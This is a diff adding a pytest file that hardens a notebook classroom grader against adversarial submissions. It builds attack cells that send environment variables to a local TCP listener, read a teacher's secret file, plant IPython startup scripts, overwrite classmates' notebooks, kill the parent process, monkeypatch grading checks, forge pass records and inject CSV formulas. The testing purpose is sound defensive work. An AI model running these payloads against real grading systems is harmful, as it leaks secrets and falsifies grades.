@@ -1,0 +1,404 @@
+"""One adversarial learner must not change anyone's grade: a class of chapter 09 made of honest
+learners and one submission per attack, graded once (module fixture, two kernels at a time).
+
+The attacks stay safe on a developer's machine: the network is a listener on 127.0.0.1 that the
+test itself opens, the files attacked are in the test's own temporary folders (the course's
+folder only gets a probe file name that the test removes if it appears), and every sleep is bounded.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import socket
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+import test_classroom as tc
+
+import attnkit
+from attnkit.classroom import grade, isolation, write_csv, write_html
+from attnkit.classroom.originals import ClassroomError
+from attnkit.classroom.safety import csv_cell, shown, tampering
+from attnkit.exercises import OUTCOME_MIME
+
+EXERCISES = ["ch09.ex1", "ch09.ex2", "ch09.ex3", "ch09.q1", "ch09.q2", "ch09.ex4"]
+GBK_NAME = b"\xd5\xc5\xc8\xfd"  # 张三 in GBK: not UTF-8
+SECRET = "teacher-secret-7f3a"
+PROBE_FILE = Path(attnkit.__file__).resolve().parent / "exercises" / "_adversarial_probe.py"
+
+
+def handout():
+    return tc.built()
+
+
+def solved():
+    nb = handout()
+    for ex in EXERCISES:
+        tc.answer(nb, ex, "solve")
+    return nb
+
+
+def add_cell(nb, source: str, before_exercise: str = "ch09.ex1"):
+    """``source`` as a new code cell just before the cell defining the first exercise's stub."""
+    _, arg = tc._check_cells(nb)[before_exercise]
+    at = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and f"def {arg}(" in c.source)
+    nb.cells.insert(at, nbformat.v4.new_code_cell(source))
+    return nb
+
+
+PASSED = ("from IPython.display import display\n"
+          f"for ex in {EXERCISES!r}:\n"
+          f"    display({{'{OUTCOME_MIME}': {{'exercise': ex, 'status': 'passed', 'case': None, 'label': None,"
+          " 'feedback': 'ok', 'solution': False}, 'text/plain': 'ok'}, raw=True)\n")
+PATCH_MODULE = ("import attnkit.exercises as X\nimport attnkit.exercises.ch09 as E\n"
+                "E.run_checks = X.run_checks = lambda *a, **k: True\n"
+                "E.check_answer = X.check_answer = lambda *a, **k: True\n")
+REDEFINE = "\n".join(f"def {fn}(*a, **k):\n    return True\n" for fn in
+                     ("check_step", "check_positive_features", "check_landmarks", "check_q1", "check_q2",
+                      "check_causal_linear"))
+ALLCLOSE = "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.testing.assert_close = lambda *a, **k: None\n"
+
+
+def probe_cells(listen_port: int, folder: Path, teacher_home: Path, out: Path) -> str:
+    """Every harm at once, and what the learner could see, raised as ex1's error (its feedback)."""
+    return f"""
+import json, os, socket, subprocess, sys
+FACTS = {{}}
+def attempt(name, fn):
+    try:
+        FACTS[name] = repr(fn())[:200]
+    except BaseException as err:
+        FACTS[name] = 'refused: ' + type(err).__name__
+def tcp():
+    s = socket.create_connection(('127.0.0.1', {listen_port}), timeout=2)
+    s.sendall(json.dumps(dict(os.environ)).encode()); s.close(); return 'sent'
+def raw():
+    import _socket
+    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM); s.settimeout(2)
+    s.connect(('127.0.0.1', {listen_port})); s.send(b'raw'); s.close(); return 'sent'
+def sub():
+    return subprocess.run([sys.executable, '-c', "import socket; socket.create_connection(('127.0.0.1', {listen_port}), timeout=2).send(b'sub')"],
+                          capture_output=True, timeout=20).returncode
+attempt('tcp', tcp); attempt('raw_socket', raw); attempt('subprocess', sub)
+attempt('secret_env', lambda: os.environ.get('ATTNKIT_TEACHER_SECRET'))
+attempt('teacher_home', lambda: open({str(teacher_home / 'secret.txt')!r}).read())
+attempt('teacher_startup', lambda: (os.makedirs({str(teacher_home / '.ipython/profile_default/startup')!r}, exist_ok=True),
+        open({str(teacher_home / '.ipython/profile_default/startup/00-evil.py')!r}, 'w').write('raise SystemExit')))
+attempt('own_startup', lambda: (os.makedirs(os.path.expanduser('~/.ipython/profile_default/startup'), exist_ok=True),
+        open(os.path.expanduser('~/.ipython/profile_default/startup/00-evil.py'), 'w').write('x = 1')))
+attempt('overwrite_classmate', lambda: open({str(folder / 'honest.ipynb')!r}, 'w').write('{{}}'))
+attempt('phantom', lambda: open({str(folder / 'phantom.ipynb')!r}, 'w').write('{{}}'))
+attempt('read_classmate', lambda: len(open({str(folder / 'honest.ipynb')!r}).read()))
+attempt('course', lambda: open({str(PROBE_FILE)!r}, 'w').write('x = 1'))
+attempt('report', lambda: open({str(out / 'report.html')!r}, 'w').write('forged'))
+attempt('processes', lambda: sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))
+def kernels():
+    found = []
+    for p in os.listdir('/proc'):
+        if p.isdigit() and int(p) not in (os.getpid(), os.getppid()):
+            try:
+                line = open(f'/proc/{{p}}/cmdline').read()
+            except OSError:
+                continue
+            if 'ipykernel' in line:
+                found.append(line)
+    return found
+attempt('kernels', kernels)
+attempt('detached', lambda: subprocess.Popen([sys.executable, '-c', "import time; time.sleep(3); "
+        "open({str(out / 'late.txt')!r}, 'w').write('late')"], start_new_session=True).pid)
+"""
+
+
+def probe_answer(nb):
+    """ex1 raises the facts (its feedback shows them); ex2 raises 5 MB (feedback is capped)."""
+    for ex, body in (("ch09.ex1", "    raise RuntimeError('FACTS ' + json.dumps(FACTS))\n"),
+                     ("ch09.ex2", "    raise RuntimeError('x' * 5_000_000)\n")):
+        _, arg = tc._check_cells(nb)[ex]
+        stub = next(c for c in nb.cells if c.cell_type == "code" and f"def {arg}(" in c.source)
+        import ast
+        params = next(n for n in ast.parse(stub.source).body if isinstance(n, ast.FunctionDef) and n.name == arg)
+        stub.source = tc._replace_def(stub.source, arg, f"def {arg}({ast.unparse(params.args)}):\n{body}")
+    return nb
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that records what connects to it (bounded: closes itself)."""
+
+    def __init__(self):
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(0.5)
+        self.port, self.got, self.stop = self.sock.getsockname()[1], [], False
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+
+    def serve(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            conn.settimeout(1)
+            try:
+                self.got.append(conn.recv(1 << 16))
+            except OSError:
+                self.got.append(b"")
+            conn.close()
+
+    def close(self):
+        self.stop = True
+        self.thread.join(5)
+        self.sock.close()
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    root = tmp_path_factory.mktemp("adversarial")
+    folder, out, home = root / "returned", root / "out", root / "teacher_home"
+    for d in (folder, out, home):
+        d.mkdir()
+    (home / "secret.txt").write_text(SECRET)
+    (out / "report.html").write_text("the last report")
+    listener = Listener()
+    tc.write(solved(), folder / "honest.ipynb")
+    v3 = nbformat.convert(solved(), 3)
+    (folder / "honest_v3.ipynb").write_text(nbformat.writes(v3, version=3))
+    tc.write(add_cell(handout(), PASSED), folder / os.fsdecode(GBK_NAME + b".ipynb"))
+    tc.write(add_cell(handout(), REDEFINE), folder / "=1+1.ipynb")
+    tc.write(add_cell(handout(), PATCH_MODULE), folder / "patch_module.ipynb")
+    nb = handout()  # torch.allclose patched inside a grade-skip cell, with wrong answers
+    skip = next(c for c in nb.cells if "grade-skip" in c.metadata.get("tags", []))
+    skip.source += "\n" + ALLCLOSE
+    for ex in ("ch09.ex1", "ch09.ex2"):
+        tc.answer(nb, ex, "wrong")
+    tc.write(nb, folder / "skip_cell_allclose.ipynb")
+    nb = handout()
+    checks = tc.load_original("09", "en", tc.chapters_dir()).checks
+    for ex, (i, arg) in tc._check_cells(nb).items():  # the check cells call their check on something else
+        cell = nb.cells[i]
+        cell.source = cell.source.replace(f"{checks[ex]}({arg})", f"{checks[ex]}(None)") + \
+            ("\n" + PASSED if ex == "ch09.ex1" else "")
+        assert f"{checks[ex]}(None)" in cell.source
+    tc.write(nb, folder / "edited_check.ipynb")
+    tc.write(add_cell(handout(), "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
+                      "os.kill(os.getppid(), signal.SIGTERM)\n"), folder / "killer.ipynb")
+    tc.write(probe_answer(add_cell(handout(), probe_cells(listener.port, folder, home, out))), folder / "probe.ipynb")
+    before = tc.snapshot(folder)
+    lines = []
+    saved = {k: os.environ.get(k) for k in ("HOME", "ATTNKIT_TEACHER_SECRET")}
+    os.environ.update(HOME=str(home), ATTNKIT_TEACHER_SECRET=SECRET)
+    start = time.perf_counter()
+    try:
+        g = grade([folder], timeout=tc.TIMEOUT, jobs=2, progress=lambda k, n, r: lines.append((k, n, r.learner)))
+    finally:
+        for k, v in saved.items():
+            os.environ.pop(k, None) if v is None else os.environ.__setitem__(k, v)
+    seconds = time.perf_counter() - start
+    write_html(g, out / "report.html", "en")
+    write_csv(g, out / "report.csv", "en")
+    time.sleep(4)  # the detached process had 3 s to write late.txt
+    listener.close()
+    probe_written = PROBE_FILE.exists()
+    PROBE_FILE.unlink(missing_ok=True)
+    yield {"g": g, "folder": folder, "out": out, "home": home, "before": before, "lines": lines,
+           "listener": listener, "probe_written": probe_written, "seconds": seconds,
+           "rows": {r.learner: r for r in g.results}}
+
+
+def statuses(res):
+    return {ex: o["status"] for ex, o in res.outcomes.items()}
+
+
+def facts(attacked):
+    fb = attacked["rows"]["probe"].outcomes["ch09.ex1"]["feedback"]
+    return json.loads(re.search(r"FACTS (\{.*\})", fb).group(1))
+
+
+ISOLATED = isolation.probe()[0] != "none"
+
+
+def test_honest_learners_pass_every_exercise_v3_included(attacked):
+    rows = attacked["rows"]
+    assert statuses(rows["honest"]) == dict.fromkeys(EXERCISES, "passed")
+    assert statuses(rows["honest_v3"]) == dict.fromkeys(EXERCISES, "passed")  # nbformat 3, upgraded
+
+
+@pytest.mark.parametrize("learner", ["gbk", "=1+1", "patch_module", "skip_cell_allclose", "edited_check", "killer",
+                                     "probe"])
+def test_no_attack_earns_a_pass(attacked, learner):
+    rows = attacked["rows"]
+    name = shown(os.fsdecode(GBK_NAME)) if learner == "gbk" else learner
+    assert not any(s == "passed" for s in statuses(rows[name]).values()), statuses(rows[name])
+    assert len(rows[name].outcomes) == 6
+
+
+def test_records_from_other_cells_are_ignored_and_edited_check_cells_restored(attacked):
+    rows = attacked["rows"]
+    # the displayed records are not the checker's: the exercises stay not attempted
+    assert statuses(rows[shown(os.fsdecode(GBK_NAME))]) == dict.fromkeys(EXERCISES, "todo")
+    edited = rows["edited_check"]
+    assert statuses(edited) == dict.fromkeys(EXERCISES, "todo")
+    assert any(key == "classroom.note.restored" for key, _ in edited.notes)
+    # the patches are flagged with their lines as evidence
+    for name, line in (("=1+1", "def check_step"), ("patch_module", "E.run_checks"),
+                       ("skip_cell_allclose", "torch.allclose")):
+        ev = [fmt["evidence"] for key, fmt in rows[name].notes if key == "classroom.note.tampered"]
+        assert ev and line in ev[0], (name, rows[name].notes)
+
+
+def test_the_run_survives_a_learner_killing_its_parent_and_reports_everyone(attacked):
+    g = attacked["g"]
+    assert len(g.results) == len(attacked["before"]) == 9
+    assert {k for k, _, _ in attacked["lines"]} == set(range(1, 10))
+    assert all(r.problem is None for r in g.results)
+
+
+def test_no_submission_the_report_or_the_course_is_changed(attacked):
+    assert tc.snapshot(attacked["folder"]) == attacked["before"]  # no overwrite, no phantom
+    assert not any(any(k == "classroom.note.submission_changed" for k, _ in r.notes) for r in attacked["g"].results)
+    assert not attacked["probe_written"]
+    assert not (attacked["out"] / "late.txt").exists()  # the detached process was killed with its kernel
+    assert not list(attacked["home"].rglob("00-evil.py"))  # no startup file in the teacher's HOME
+    text = (attacked["out"] / "report.html").read_text(encoding="utf-8")
+    assert "forged" not in text and "Class report" in text
+
+
+@pytest.mark.skipif(not ISOLATED, reason="no namespaces on this system: the report says 'not isolated'")
+def test_no_network_no_teacher_environment_or_home_no_other_processes(attacked):
+    f = facts(attacked)
+    assert attacked["listener"].got == []
+    assert f["tcp"].startswith("refused") and f["raw_socket"].startswith("refused")
+    assert f["subprocess"] != "0"
+    assert f["secret_env"] == "None"
+    assert SECRET not in f["teacher_home"] and f["teacher_startup"].startswith("refused")
+    assert f["read_classmate"].startswith("refused")
+    assert f["kernels"] == "[]"  # its own PID namespace: no classmate's kernel to connect to
+    assert f["own_startup"] == "(None, 5)"  # written into its temporary HOME, gone with it
+    assert SECRET not in (attacked["out"] / "report.html").read_text(encoding="utf-8")
+
+
+def test_the_report_says_which_isolation_each_notebook_got(attacked):
+    label = isolation.label(isolation.probe()[0])
+    assert {r.isolation for r in attacked["g"].results} == {label}
+    text = (attacked["out"] / "report.html").read_text(encoding="utf-8")
+    assert text.count(label) >= 9
+    if not ISOLATED:
+        assert "not isolated" in label
+
+
+def test_non_utf8_names_feedback_cap_and_csv_injection(attacked):
+    rows = attacked["rows"]
+    assert shown(os.fsdecode(GBK_NAME)) == "\\xd5\\xc5\\xc8\\xfd (GBK: 张三)"
+    assert shown(os.fsdecode(GBK_NAME)) in (attacked["out"] / "report.html").read_text(encoding="utf-8")
+    assert len(rows["probe"].outcomes["ch09.ex2"]["feedback"]) < 64 * 1024 + 100
+    table = list(csv.reader(io.StringIO((attacked["out"] / "report.csv").read_text(encoding="utf-8-sig"))))
+    assert any(row[0] == "'=1+1" for row in table)
+    assert not any(cell[:1] in ("=", "+", "-", "@") for row in table for cell in row)
+
+
+# ---- without kernels ----
+
+def test_csv_cells_and_names_escape():
+    assert [csv_cell(x) for x in ("=A1", "+1", "-2", "@x", "\tx", "\rx", "ok", "")] == \
+        ["'=A1", "'+1", "'-2", "'@x", "'\tx", "'\rx", "ok", ""]
+    assert shown("plain") == "plain" and shown("张三") == "张三"
+    assert shown(os.fsdecode(b"\xff\xfe")) == "\\xff\\xfe"  # neither UTF-8 nor GBK
+
+
+def test_the_report_is_replaced_atomically_never_through_a_symlink_or_into_submissions(tmp_path):
+    from attnkit.classroom.grading import Graded
+
+    sub = tmp_path / "returned"
+    sub.mkdir()
+    (sub / "alice.ipynb").write_text("{}")
+    g = Graded(chapter="09", lang="en", exercises=[], results=[], folders=[sub.resolve()])
+    report = tmp_path / "report.html"
+    report.write_text("old report")
+    write_html(g, report, "en")
+    assert "Class report" in report.read_text(encoding="utf-8")
+    link = tmp_path / "link.html"
+    link.symlink_to(sub / "alice.ipynb")
+    for target in (link, sub / "report.html", sub / "alice.ipynb"):
+        with pytest.raises(ClassroomError, match="refusing"):
+            write_html(g, target, "en")
+    assert (sub / "alice.ipynb").read_text() == "{}" and not (sub / "report.html").exists()
+    # a failure while writing leaves the old report whole (never 0 bytes)
+    import attnkit.classroom.report as R
+    real = R.html_report
+    R.html_report = lambda *a: "\udcff"  # cannot be encoded
+    try:
+        with pytest.raises(UnicodeEncodeError):
+            write_html(g, report, "en")
+    finally:
+        R.html_report = real
+    assert "Class report" in report.read_text(encoding="utf-8")
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".report")] == []
+
+
+def test_the_scan_flags_what_reaches_for_the_grading_and_not_honest_answers():
+    for src in (PATCH_MODULE, REDEFINE, ALLCLOSE, PASSED, "exec(code)", "import inspect\ninspect.getsource(f)",
+                "import os\nos.kill(os.getppid(), 9)", "globals()['check_step'] = f"):
+        assert tampering(src), src
+    for ex in EXERCISES[:3] + EXERCISES[5:]:
+        assert tampering(tc.honest_source(ex, "my_fn")) == [], ex
+    assert tampering("my_answer = 'linear'\n_ = check_q1(my_answer)") == []
+
+
+def test_the_command_line_refuses_a_symlinked_report_before_grading(tmp_path, capsys):
+    from attnkit.classroom.__main__ import main
+
+    sub = tmp_path / "returned"
+    sub.mkdir()
+    tc.write(handout(), sub / "alice.ipynb")
+    before = tc.snapshot(sub)
+    (tmp_path / "report.html").symlink_to(sub / "alice.ipynb")
+    assert main(["grade", str(sub), "--out", str(tmp_path / "report.html"), "--lang", "en"]) == 2
+    assert "symbolic link" in capsys.readouterr().err
+    assert main(["grade", str(sub), "--out", str(sub / "report.html"), "--lang", "en"]) == 2
+    assert "inside the submissions folder" in capsys.readouterr().err
+    assert tc.snapshot(sub) == before and not (sub / "report.html").exists()
+
+
+@pytest.mark.parametrize("level", ["user", "none"])
+def test_weaker_levels_still_grade_and_kill_what_the_kernel_left(level, tmp_path, monkeypatch):
+    """The user-namespace level (what a normal user gets) and the fallback (no namespaces), forced:
+    each notebook still gets its row and its label; a setsid'd process dies with its kernel; in a
+    user namespace the network and the submissions stay out of reach as well."""
+    sub, out = tmp_path / "returned", tmp_path / "out"
+    sub.mkdir()
+    out.mkdir()
+    listener = Listener()
+    cell = (f"import os, socket, subprocess, sys\n"
+            f"subprocess.Popen([sys.executable, '-c', \"import time; time.sleep(3); open({str(out / 'late.txt')!r}, 'w')\"],"
+            " start_new_session=True)\n"
+            "try:\n"
+            f"    socket.create_connection(('127.0.0.1', {listener.port}), timeout=2).send(b'x')\n"
+            "except OSError:\n    pass\n"
+            "try:\n"
+            f"    open({str(sub / 'phantom.ipynb')!r}, 'w').write('{{}}')\n"
+            "except OSError:\n    pass\n"
+            "os._exit(0)\n")
+    nb = handout()
+    nb.cells.insert(1, nbformat.v4.new_code_cell(cell))
+    tc.write(nb, sub / "leaver.ipynb")
+    monkeypatch.setenv("ATTNKIT_ISOLATION", level)
+    isolation.probe.cache_clear()
+    try:
+        g = grade([sub], timeout=tc.TIMEOUT, jobs=1)
+    finally:
+        monkeypatch.delenv("ATTNKIT_ISOLATION")
+        isolation.probe.cache_clear()
+    time.sleep(4)
+    listener.close()
+    (res,) = g.results
+    assert res.problem is None and len(res.outcomes) == 6
+    assert res.isolation == isolation.label("user" if level == "user" else "none")
+    assert not (out / "late.txt").exists()
+    if level == "user":
+        assert listener.got == [] and not (sub / "phantom.ipynb").exists()
